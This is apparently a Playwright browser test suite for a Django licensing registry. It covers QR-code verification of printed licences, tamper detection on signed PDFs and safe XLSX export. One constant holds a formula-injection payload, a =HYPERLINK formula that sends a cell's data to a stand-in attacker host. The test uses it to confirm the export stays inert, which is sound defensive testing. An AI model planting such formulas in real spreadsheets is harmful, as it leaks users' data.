"""The registrar's walk-through in a real browser, on the demo data: the registrar prints the
demo licence; its QR code, read back from the PDF, opens the verification page, which shows the
licence valid; after an officer suspends it the same code shows it suspended; an XLSX export of
the holder's records holds no formula a spreadsheet would run (Art. 9.2, 21.1(a))."""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from playwright.sync_api import expect

from licensing.models import IssuedDocument, IssuedDocumentKind, Licence, LicenceState, Party
from tests.browser.demo import admin_log_in
from tests.browser.test_admin_flow import decide
from tests.documents.test_printing import decoded_qr_codes, pdf_text

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

HOLDER = "Fjordtobakk AS"
# Applicant-supplied text that a spreadsheet would run as a formula if it were exported as is.
HOSTILE = '=HYPERLINK("https://attacker.invalid/?"&A1,"Click")'


def log_in(page, live_server, username: str) -> None:
    admin_log_in(page, live_server, username)


@pytest.fixture
def demo(settings, live_server):
    settings.DEBUG = True  # load_demo refuses to run in production
    settings.PORTAL_BASE_URL = live_server.url  # the QR code opens this test's server
    call_command("load_demo", stdout=io.StringIO())
    settings.DEBUG = False


def test_registrar_prints_the_demo_licence_and_its_qr_code_follows_its_state(
    demo, live_server, new_page, tmp_path: Path, compiled_messages
):
    licence = Licence.objects.filter(holder__legal_name=HOLDER, state=LicenceState.ACTIVE).first()
    assert licence is not None, "the demo data has an active licence of Fjordtobakk AS"

    registrar = new_page(viewport={"width": 1280, "height": 900})
    log_in(registrar, live_server, "registrar")
    registrar.goto(f"{live_server.url}/admin/licensing/licence/?q={licence.number}")
    registrar.get_by_role("link", name=licence.number).click()
    decide(registrar, "print_licence")
    registrar.reload()
    printed = IssuedDocument.objects.get(licence=licence, kind=IssuedDocumentKind.LICENCE)
    with registrar.expect_download() as download:
        registrar.locator(f'a[href*="{printed.public_id}"]').click()
    pdf = Path(download.value.path()).read_bytes()
    assert licence.number in pdf_text(pdf)

    [url] = decoded_qr_codes(pdf, tmp_path)
    assert url == f"{live_server.url}/verify/{licence.number}/"
    # Issue 20: the printed version's row names its signature and status.
    inline = registrar.locator("#issued_documents-group")
    assert "PAdES B-B (signature)" in inline.inner_text()
    assert "current" in inline.inner_text()

    # The holder's customer, on a phone and in Hungarian, checks the file they received.
    phone = new_page(
        viewport={"width": 390, "height": 844},
        is_mobile=True,
        locale="hu-HU",
    )
    phone.goto(f"{live_server.url}/verify/document/")
    phone.set_input_files('input[type="file"]', str(download.value.path()))
    phone.get_by_role("button", name="A fájl ellenőrzése").click()
    # expect() waits for the answer's page: the form's page has a heading too.
    expect(phone.get_by_role("heading", level=1)).to_have_text(
        "Hiteles: a hatóság aláírta, és változatlan"
    )
    assert printed.code in phone.content()
    # The same file with one byte changed.
    tampered = bytearray(pdf)
    tampered[pdf.index(b"stream") + 20] ^= 0x01
    (tmp_path / "tampered.pdf").write_bytes(bytes(tampered))
    phone.set_input_files('input[type="file"]', str(tmp_path / "tampered.pdf"))
    phone.get_by_role("button", name="A fájl ellenőrzése").click()
    expect(phone.get_by_role("heading", level=1)).to_have_text(
        "Módosítva: a hatóság aláírása óta megváltozott"
    )

    public = new_page()
    public.goto(url)
    assert public.get_by_role("heading", level=1).inner_text() == "Valid licence"

    officer = new_page()
    log_in(officer, live_server, "officer")
    officer.goto(f"{live_server.url}/admin/licensing/licence/{licence.pk}/change/")
    decide(
        officer,
        "suspend",
        Ground="Records or returns not kept (Art. 9)",
        Reason="Excise returns not filed (Art. 6.3(a)).",
    )

    public.goto(url)
    assert public.get_by_role("heading", level=1).inner_text() == "Not a valid licence"
    assert public.locator(".tag").inner_text() == "suspended"


def test_an_export_of_the_holders_records_opens_safely_in_a_spreadsheet(
    demo, live_server, new_page
):
    party = Party.objects.get(legal_name=HOLDER)
    Party.objects.filter(pk=party.pk).update(trade_name=HOSTILE)

    registrar = new_page(viewport={"width": 1280, "height": 900})
    log_in(registrar, live_server, "registrar")
    registrar.goto(f"{live_server.url}/admin/licensing/party/?q={party.registration_number}")
    registrar.locator(f'input[name="_selected_action"][value="{party.pk}"]').check()
    registrar.locator('select[name="action"]').select_option("export_selected_records")
    registrar.get_by_role("button", name="Go").click()
    registrar.get_by_label("Format").select_option("xlsx")
    with registrar.expect_download() as download:
        registrar.get_by_role("button", name="Export").click()

    assert download.value.suggested_filename.endswith(".xlsx")
    book = openpyxl.load_workbook(io.BytesIO(Path(download.value.path()).read_bytes()))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = [str(cell.value) for cell in cells if cell.value is not None]
    assert HOLDER in values
    # The hostile text is there exactly as given, in a text cell: no formula, and no escaping
    # quote that a spreadsheet would show as part of the value.
    assert HOSTILE in values and f"'{HOSTILE}" not in values
